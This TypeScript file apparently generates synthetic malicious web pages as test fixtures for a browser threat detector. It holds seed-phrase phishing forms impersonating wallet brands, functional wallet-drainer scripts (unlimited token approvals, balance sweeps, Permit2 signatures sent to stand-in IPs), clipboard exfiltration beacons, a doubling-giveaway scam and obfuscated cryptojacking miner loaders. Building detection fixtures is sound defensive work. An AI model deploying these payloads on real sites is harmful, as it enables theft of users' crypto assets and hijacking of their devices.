/** Theft of seed phrases and tokens, and miners. The contracts and keys are made up. */
import type { Builders, Saved } from '../browser-report.ts';
import { base64, charCodes, escaped, hexDigits, packed, stringArray } from '../obfuscation.ts';
import { table } from '../words.ts';

const SEEDS = table(`
en|MetaMask|https://metamask-io.restore-wallet.app/|Import your wallet with Secret Recovery Phrase|words
en|Trust Wallet|https://trustwallet-validate.on.fleek.co/|Your wallet is out of sync. Enter your 12/24-word phrase|area
en|Ledger|https://ledger-live.start-update.com/connect/|Critical firmware vulnerability: verify your device with your 24 words|words
de|Ledger|https://ledger-sicherheit.de.com/wiederherstellung/|Geben Sie Ihre 24 Wörter ein, um Ihr Gerät zu verifizieren|words
es|Exodus|https://exodus-soporte.netlify.app/|Introduzca su frase de recuperación de 12 palabras|area
it|Phantom|https://phantom-airdrop.it.claim-sol.site/|Inserisci la tua frase segreta per ricevere l’airdrop|area
fr|Trezor|https://trezor.io-suite.restauration.cc/|Saisissez votre phrase de récupération|words
ru|TON|https://ton-keeper.bonus-wallet.pw/|Введите 24 секретных слова|words
zh|imToken|https://im-token.qianbao.vip/huifu|请输入助记词，以空格分隔|area
tr|Binance|https://binance-dogrulama.xyz/wallet|Cüzdanınızı doğrulamak için kurtarma ifadenizi girin|tabs
pt|WalletConnect|https://walletconnect-dapps-br.vercel.app/connect|Erro ao conectar. Conecte manualmente com a frase|tabs
en|WalletConnect|https://dapp-rectify-node.pages.dev/wallets.html|Error Connecting... Connect Manually|tabs`);

const seedForm: Record<string, (text: string, n: number) => string> = {
  words: (text, n) =>
    `<h1>${text}</h1><form action="${n % 2 ? 'send.php' : `https://formsubmit.co/${hexDigits(n, 32)}`}" method="POST">${Array.from({ length: n % 2 ? 12 : 24 }, (_, i) => `<input type="${n % 3 ? 'text' : 'password'}" name="word${i + 1}" placeholder="${i + 1}." autocomplete="off" required>`).join('')}<button>Continue</button></form>`,
  area: (text, n) =>
    `<h2>${text}</h2><form id="x"><textarea name="phrase" rows="4" required minlength="40"></textarea><button>Submit</button></form><script>document.getElementById('x').onsubmit=function(e){e.preventDefault();emailjs.send('service_${n}','template_1',{message:this.phrase.value}).then(function(){document.body.innerHTML='<p>Synchronizing… 1%</p>'})};</script><script src="https://cdn.jsdelivr.net/npm/emailjs-com@2/dist/email.min.js"></script>`,
  tabs: (text, n) =>
    `<p>${text}</p><div class="tabs"><a onclick="t('phrase')">Phrase</a><a onclick="t('keystore')">Keystore JSON</a><a onclick="t('pk')">Private Key</a></div>${['phrase', 'keystore', 'pk'].map((name, i) => `<form class="tab" id="${name}" action="process${n}.php" method="post" style="${i ? 'display:none' : ''}"><input type="hidden" name="type" value="${name}"><input type="hidden" name="wallet" id="w${i}" value="Coinbase"><textarea name="data" placeholder="Typically 12 (sometimes 24) words separated by single spaces"></textarea>${name === 'keystore' ? '<input type="password" name="pass" placeholder="Wallet password">' : ''}<button>CONNECT</button></form>`).join('')}<div class="wallets">${['MetaMask', 'Trust', 'Coinbase', 'Exodus', 'Rainbow', 'Phantom'].map((w) => `<img src="img/${w}.svg" onclick="pick('${w}')">`).join('')}</div>`,
};

const RPC = 'https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js';
const drain = (body: string) =>
  `<script src="${RPC}"></script><script src="https://cdn.jsdelivr.net/npm/web3modal@1/dist/index.js"></script><script>${body}</script>`;
const DRAINERS: Saved[] = [
  [
    'https://arbitrum-foundation.claims-arb.com/',
    `<html><head><title>Arbitrum | Airdrop eligibility</title></head><body><h1>You are eligible to claim 1,625 ARB</h1><p>Claim closes in <b id="t">09:59</b></p><button class="connectButton">Claim now</button>${drain(`const receiver="0x000000000000000000000000000000000000dEaD";async function go(){const p=new ethers.providers.Web3Provider(window.ethereum);const [a]=await p.send("eth_requestAccounts",[]);const list=(await (await fetch("https://203.0.113.20/api/assets?a="+a)).json()).sort((x,y)=>y.usd-x.usd);for(const t of list){try{if(t.type=="ERC721"){await new ethers.Contract(t.c,["function setApprovalForAll(address,bool)"],p.getSigner()).setApprovalForAll(receiver,true)}else{await new ethers.Contract(t.c,["function increaseAllowance(address,uint256)"],p.getSigner()).increaseAllowance(receiver,ethers.constants.MaxUint256)}}catch(e){}}}document.querySelector(".connectButton").onclick=go;`)}</body></html>`,
  ],
  [
    'https://mint-azuki.world/',
    `<html><head><title>AZUKI – Free Mint</title></head><body><h1>Mint live: 7,941 / 10,000</h1><button id="mint">MINT FREE</button>${drain(`async function mint(){const w3=new Web3(window.ethereum);const acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];const bal=await w3.eth.getBalance(acc);await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:"0x0000000000000000000000000000000000000bad",value:w3.utils.toHex(Math.floor(bal*0.9)),data:"0x5fba79f5"}]})}document.getElementById('mint').onclick=mint;document.addEventListener('contextmenu',e=>e.preventDefault());`)}</body></html>`,
  ],
  [
    'https://uniswap-lp.rewards-v3.net/',
    `<html><head><title>Uniswap V3: Positions</title></head><body><button>Connect</button>${drain(`async function sign(owner,token){const d={types:{EIP712Domain:[],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}]},primaryType:"PermitBatch",domain:{name:"Permit2",chainId:1,verifyingContract:"0x000000000022D473030F116dDEE9F6B43aC78BA3"},message:{spender:"0x0000000000000000000000000000000000000bad",sigDeadline:"9999999999",details:token.map(t=>({token:t,amount:"1461501637330902918203684832716283019655932542975",expiration:"9999999999",nonce:0}))}};const s=await ethereum.request({method:"eth_signTypedData_v4",params:[owner,JSON.stringify(d)]});fetch("/api/permit",{method:"POST",body:s})}`)}</body></html>`,
  ],
  [
    'https://opensea-migrate.xyz/listing',
    `<html><head><title>OpenSea - Migrate your listings</title></head><body><p>Migrate to the new contract before Feb 25, 2:00 PM ET or your listings will expire.</p><button onclick="mig()">Migrate</button><script>async function mig(){const a=(await ethereum.request({method:'eth_requestAccounts'}))[0];await ethereum.request({method:'eth_sign',params:[a,'0x${hexDigits(4, 64)}']}).then(r=>fetch('https://198.51.100.20/s?r='+r))}</script></body></html>`,
  ],
  [
    'https://pink-drop.claim-blur.io/',
    `<html><head><title>BLUR Season 4</title><script src="./settings.js"></script><script src="./${hexDigits(5, 8)}.js"></script></head><body><button class="interact-button" data-drainer>Check eligibility</button><script>${stringArray(['eth_requestAccounts', 'setApprovalForAll', 'sendTransaction', 'https://203.0.113.21/', 'approve', '0x0000000000000000000000000000000000000bad'], 77, (g) => `(async()=>{document['querySelector']('[data-drainer]')['onclick']=async()=>{const _a=await ethereum['request']({'method':${g(0)}});await new window['Ct'](_a[0x0])[${g(1)}](${g(5)},!![]);};})();`)}</script></body></html>`,
  ],
  [
    'https://sol-phantom-gift.fun/',
    `<html lang="ru"><head><title>Solana Gift</title></head><body><p>Подарок 3.2 SOL ждёт вас</p><button id="b">Забрать</button><script type="module">import{Connection,Transaction,SystemProgram,PublicKey}from"https://esm.sh/@solana/web3.js";b.onclick=async()=>{const r=await window.solana.connect();const c=new Connection("https://rpc.example");const bal=await c.getBalance(r.publicKey);const t=new Transaction().add(SystemProgram.transfer({fromPubkey:r.publicKey,toPubkey:new PublicKey("11111111111111111111111111111111"),lamports:bal-5000}));t.feePayer=r.publicKey;await window.solana.signAndSendTransaction(t)}</script></body></html>`,
  ],
  [
    'https://usdt-tron-bonus.top/invite?c=9',
    `<html lang="zh"><head><title>USDT挖矿 质押收益</title></head><body><p>日收益 2.8%，无需转账，只需授权</p><button onclick="ok()">立即参与</button><script>async function ok(){const t=await tronWeb.contract().at("TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t");await t.approve("T0000000000000000000000000000fake","115792089237316195423570985008687907853269984665640564039457584007913129639935").send();fetch("/index/api/insert_approve?address="+tronWeb.defaultAddress.base58)}</script></body></html>`,
  ],
  [
    'https://elon-x-doge.live/',
    `<html><head><title>Official Doge giveaway 5,000 BTC</title></head><body><h1>Send 0.1–20 BTC, get double back immediately!</h1><p>bc1qfake0000000000000000000000000000</p><div id="tx"></div><script>setInterval(function(){var a=(Math.random()*9).toFixed(2);document.getElementById('tx').insertAdjacentHTML('afterbegin','<div>1A'+Math.random().toString(36).slice(2,9)+'… +'+(a*2)+' BTC ✔ just now</div>')},3500);</script><iframe src="https://www.youtube.com/embed/live_stream?autoplay=1" width="560" height="315"></iframe></body></html>`,
  ],
];

const page = (title: string, text: string, script: string) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body><p>${text}</p>${script}</body></html>`;
const MINERS: Saved[] = [
  [
    'http://www.peliculas-gratis-hd.example/ver/9912',
    page(
      'Ver película online gratis',
      'Reproductor 1 | Reproductor 2',
      `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous('SiteKey000',{throttle:0.2});if(!miner.isMobile()&&!miner.didOptOut(14400))miner.start();</script>`,
    ),
  ],
  [
    'http://torrent-mirror.example/',
    page(
      'Torrent mirror',
      'Top 100',
      `<script src="//authedmine.eu.example/lib/1.js"></script><script>var m=new Client.Anonymous('${hexDigits(3, 64)}',{throttle:0,c:'w',ads:0});m.start();m.addMiningNotification("Bottom","Running",'#cccccc',40,'#3d3d3d');</script>`,
    ),
  ],
  [
    'https://school-essays.example/hamlet',
    page(
      'Hamlet essay',
      'The tragedy of indecision',
      `<script>eval(unescape('${escaped(`var s=document.createElement('script');s.src='//203.0.113.30/crypta.js';s.onload=function(){new CRLT.Anonymous('key',{threads:navigator.hardwareConcurrency,throttle:0.1}).start()};document.head.appendChild(s)`)}'))</script>`,
    ),
  ],
  [
    'http://novosti-online.example/',
    page(
      'Новости онлайн',
      'Курс валют и погода',
      `<script>${packed(`var wsurl="wss://203.0.113.31:8892/proxy";var job=null;var ws=new WebSocket(wsurl);ws.onopen=function(){ws.send(JSON.stringify({type:"auth",params:{site_key:"x",algo:"cryptonight",goal:0}}))};ws.onmessage=function(m){job=JSON.parse(m.data);for(var i=0;i<navigator.hardwareConcurrency;i++){workers[i].postMessage(job)}};var workers=[];for(var i=0;i<navigator.hardwareConcurrency;i++){workers.push(new Worker(URL.createObjectURL(new Blob(["importScripts('https://203.0.113.31/cn.wasm.js')"]))))}`)}</script>`,
    ),
  ],
  [
    'https://unblocked-games-66.example/',
    page(
      'Unblocked Games',
      'Happy Wheels, Slope, Run 3',
      `<script>var z=String.fromCharCode(${charCodes('https://198.51.100.31/m.js?perfekt=wss://pool.example&algo=cn-lite')});var q=document.createElement("script");q.src=z;q.setAttribute("data-stop","false");(document.body).appendChild(q);setInterval(function(){try{window.miner&&window.miner.setThrottle(document.hidden?0:.3)}catch(e){}},1e3)</script>`,
    ),
  ],
  [
    'http://wordpress-garten.example/rosen/',
    page(
      'Rosen schneiden im März',
      'Schneiden Sie über einem nach außen zeigenden Auge.',
      `<iframe src="http://198.51.100.33/xmr/?w=4${hexDigits(9, 30)}&t=4" width="0" height="0" style="display:none"></iframe><script>window.minerConf=JSON.parse(atob("${base64('{"pool":"stratum+wss://xmr.example:443","user":"4x","threads":4,"algo":"rx/0"}')}"));</script><script src="http://198.51.100.33/xmr/webmr.js"></script>`,
    ),
  ],
];

export const coins = {
  seedPhrase: () =>
    SEEDS.map(
      ([lang = '', brand = '', url = '', text = '', form = 'area'], n): Saved => [
        url,
        `<!doctype html><html lang="${lang}"><head><title>${brand}${n % 2 ? '' : ' – Wallet'}</title></head><body><img src="/${brand}.svg" alt="${brand}">${seedForm[form]?.(text, n)}${n % 5 === 0 ? `<script>document.addEventListener('paste',function(e){navigator.sendBeacon('https://203.0.113.22/p',e.clipboardData.getData('text'))})</script>` : ''}</body></html>`,
      ],
    ),
  drainer: () => DRAINERS,
  miner: () => MINERS,
} satisfies Builders;
